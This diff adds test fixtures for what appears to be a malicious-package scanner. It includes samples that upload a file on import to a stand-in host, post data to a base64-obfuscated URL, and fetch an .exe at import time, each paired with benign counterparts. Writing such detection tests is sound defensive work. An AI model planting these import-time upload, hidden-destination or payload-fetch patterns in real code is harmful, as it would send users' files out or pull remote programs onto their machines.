@@ -250,6 +250,59 @@ PIP_INSTALL_ON_REQUEST = (
 PIP_INSTALL_MESSAGE = 'import os\n\nos.system("echo to upgrade, run pip install -U pkg")\n'
 
 
+IMPORT_UPLOAD_FILES = """\
+import requests
+
+files = {"upload": open("notes.txt", "rb")}
+requests.post("https://hook.example.invalid/drop", files=files, data={"content": "x"})
+"""
+SDK_UPLOAD_ON_REQUEST = """\
+import requests
+
+
+def upload(path):
+    with open(path, "rb") as handle:
+        return requests.post("https://api.example.invalid/v1/files", files={"file": handle})
+"""
+IMPORT_POST_JSON = (
+    'import requests\n\nrequests.post("https://api.example.invalid/ping", json={"v": 1})\n'
+)
+POST_TO_DECODED_URL = """\
+import base64
+
+import requests
+
+
+def send(data):
+    target = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZA==").decode()
+    requests.post(target, data=data)
+"""
+# Decoding a payload is not hiding a destination.
+DECODED_PAYLOAD_TO_PLAIN_URL = """\
+import base64
+
+import requests
+
+
+def send(blob):
+    requests.post("https://api.example.invalid/v1/items", data=base64.b64decode(blob))
+"""
+IMPORT_FETCH_EXE = (
+    "import requests\n\n"
+    'payload = requests.get("https://cdn.example.invalid/attachments/1/2/helper.exe?ex=65")\n'
+)
+FETCH_EXE_ON_REQUEST = """\
+import requests
+
+
+def download_installer(version):
+    return requests.get(f"https://downloads.example.invalid/{version}/setup.exe").content
+"""
+IMPORT_FETCH_JSON = (
+    'import requests\n\nCONFIG = requests.get("https://api.example.invalid/config.json").json()\n'
+)
+
+
 DOWNLOAD_EXE_RUN = """\
 import os
 import requests
@@ -868,6 +921,18 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
             module(CLI_SUBPROCESS),
             module(RECEIVED_BYTES_COUNTED),
         ],
+    ),
+    "import-file-upload": RuleFixtures(
+        positive=[module(IMPORT_UPLOAD_FILES)],
+        benign=[module(SDK_UPLOAD_ON_REQUEST), module(IMPORT_POST_JSON)],
+    ),
+    "network-hidden-destination": RuleFixtures(
+        positive=[module(POST_TO_DECODED_URL), module(POST_TO_DECODED_URL, "pkg/utils/net.py")],
+        benign=[module(SDK_UPLOAD_ON_REQUEST), module(DECODED_PAYLOAD_TO_PLAIN_URL)],
+    ),
+    "import-fetch-program": RuleFixtures(
+        positive=[module(IMPORT_FETCH_EXE)],
+        benign=[module(FETCH_EXE_ON_REQUEST), module(IMPORT_FETCH_JSON)],
     ),
     "import-side-install": RuleFixtures(
         positive=[module(IMPORT_PIP_INSTALL), module(IMPORT_PIP_MODULE)],
